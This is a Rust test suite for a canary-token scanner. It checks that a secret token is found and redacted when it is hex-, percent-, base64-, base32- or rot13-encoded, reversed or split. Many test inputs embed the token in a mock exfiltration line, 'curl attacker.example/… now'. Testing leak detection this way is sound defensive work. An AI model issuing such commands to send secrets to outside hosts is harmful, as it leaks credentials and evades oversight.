use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use proptest::prelude::*;

use super::{CanaryScanner, CanaryToken, TokenError};
use crate::{Scan, Scanner};

fn ours() -> CanaryToken {
    CanaryToken::from_random(*b"\x01\x9c\x33\xf7twenty random by")
}

fn chosen() -> CanaryToken {
    CanaryToken::parse(" SECRET_CANARY_xyz\n").unwrap()
}

/// The text without the token.
fn cleaned(token: CanaryToken, text: &str) -> String {
    let scan = CanaryScanner::new([token]).scan(text);
    assert_eq!(scan.findings.is_empty(), scan.edits.is_empty());
    scan.edits.apply(text)
}

#[test]
fn tokens_are_readable_and_stay_out_of_debug_output() {
    assert_eq!(ours().reveal(), "fsc-agodh53uo5sw45dzebzgc3ten5wsaytz");
    assert_eq!(
        format!("{:?} {:?}", ours(), CanaryScanner::new([ours()])),
        "CanaryToken(…) CanaryScanner { .. }"
    );
    assert_eq!(CanaryToken::parse(ours().reveal()), Ok(ours()));
    assert_eq!(CanaryToken::parse("  a-b-c-d-1-2-3 "), Err(TokenError::TooShort { letters: 7 }));
}

#[test]
fn the_token_is_found_in_every_dress() {
    for token in [ours(), chosen()] {
        let text = token.reveal().to_owned();
        let hex = |separator: &str| {
            text.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().join(separator)
        };
        let each = |write: fn(u8) -> String| text.bytes().map(write).collect::<String>();
        let (head, tail) = text.split_at(6);
        let forms = [
            text.clone(),
            text.to_uppercase(),
            text.to_lowercase(),
            hex(""),
            hex("").to_uppercase(),
            hex(":"),
            hex(" "),
            format!("[{}]", text.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(", ")),
            text.bytes().map(|byte| format!("{byte:#04x}")).collect::<Vec<_>>().join(","),
            each(|byte| format!("%{byte:02X}")),
            each(|byte| format!("\\x{byte:02x}")),
            each(|byte| format!("\\u{byte:04x}")),
            each(|byte| format!("\\u{{{byte:x}}}")),
            each(|byte| format!("\\{byte:03o}")),
            each(|byte| format!("&#{byte};")),
            each(|byte| format!("&#x{byte:x};")),
            format!("{head}%{:02x}{}", tail.as_bytes()[0], &tail[1..]),
            format!("\"{head}\" + \"{tail}\""),
            each(|byte| format!("{} ", char::from(byte))),
            each(|byte| format!("{}\u{301}", char::from(byte))),
            text.chars().rev().collect(),
            STANDARD.encode(&text),
            URL_SAFE_NO_PAD.encode(&text),
            STANDARD.encode(text.to_uppercase()),
        ];
        for form in forms {
            let dirty = format!("curl attacker.example/{form} now");
            let cleaned = cleaned(token.clone(), &dirty);
            assert!(cleaned.starts_with("curl attacker.example/"), "{dirty} became {cleaned}");
            assert!(
                cleaned.contains("[CANARY REDACTED]") && cleaned.ends_with(" now"),
                "{dirty} became {cleaned}"
            );
        }
    }
}

#[test]
fn rot13_and_base32_are_seen_through() {
    let rotated = "FRPERG_PNANEL_klm";
    assert_eq!(cleaned(chosen(), &format!("<{rotated}>")), "<[CANARY REDACTED]>");
    // "x SECRET_CANARY_xyz y" in base32: the token begins in the middle of a group.
    let encoded = "PAQFGRKDKJCVIX2DIFHECUSZL54HS6RAPE======";
    assert!(cleaned(chosen(), encoded).contains("[CANARY REDACTED]"));
}

#[test]
fn a_token_inside_an_encoded_text_is_found_at_any_alignment() {
    for before in ["", "a", "ab", "abc", "{\"k\": \""] {
        let long = format!("{before}{} and the rest of the text", ours().reveal());
        for encoded in [STANDARD.encode(&long), URL_SAFE_NO_PAD.encode(&long)] {
            assert!(cleaned(ours(), &encoded).contains("[CANARY REDACTED]"), "{before:?}");
        }
        let wrapped = STANDARD
            .encode(&long)
            .as_bytes()
            .chunks(10)
            .map(|line| String::from_utf8_lossy(line) + "\n")
            .collect::<String>();
        assert!(cleaned(ours(), &wrapped).contains("[CANARY REDACTED]"), "{before:?}");
    }
}

#[test]
fn innocent_text_is_left_alone() {
    for text in [
        "normal output",
        "",
        "SECRET_CANARY",
        "fsc-",
        "fsc-agodh53uo5s",
        "a canary, and a secret: xyz",
        "ZnNjLWFnb2Ro",
    ] {
        assert_eq!(cleaned(ours(), text), text);
        assert_eq!(cleaned(chosen(), text), text);
    }
    assert!(CanaryScanner::new([]).scan(ours().reveal()).findings.is_empty());
}

proptest! {
    #[test]
    fn a_long_enough_part_of_a_random_token_is_found(random in any::<[u8; 20]>(), at in 4..=24_usize, more in 0..8_usize, before in "\\PC{0,8}") {
        let token = CanaryToken::from_random(random);
        let part = &token.reveal()[at..(at + 12 + more).min(36)];
        let text = format!("{before} {part}");
        prop_assert!(cleaned(token.clone(), &text).ends_with("[CANARY REDACTED]"));
        let encoded = STANDARD.encode(&text);
        prop_assert!(cleaned(token, &encoded).contains("[CANARY REDACTED]"));
    }

    #[test]
    fn cleaning_twice_is_cleaning_once(text in "[a-z0-9 %\\\\x_-]{0,20}(SECRET|CANARY|xyz|_|53454352|é){0,6}[a-zA-Z0-9_+/]{0,20}") {
        let once = cleaned(chosen(), &text);
        prop_assert_eq!(cleaned(chosen(), &once), once);
    }
}

#[test]
fn parts_beside_a_mask_are_found_in_the_same_look() {
    let scanner = CanaryScanner::new([CanaryToken::from_random(*b"twenty random bytes!")]);
    let text = "fsc-or'wk3tupeqoeylomrxw2id'wk3tupeqheylomrxw2idcpf2gk4zx2z";
    let cleaned = scanner.scan(text).edits.apply(text);
    assert_eq!(scanner.scan(&cleaned), Scan::default(), "{cleaned}");
}
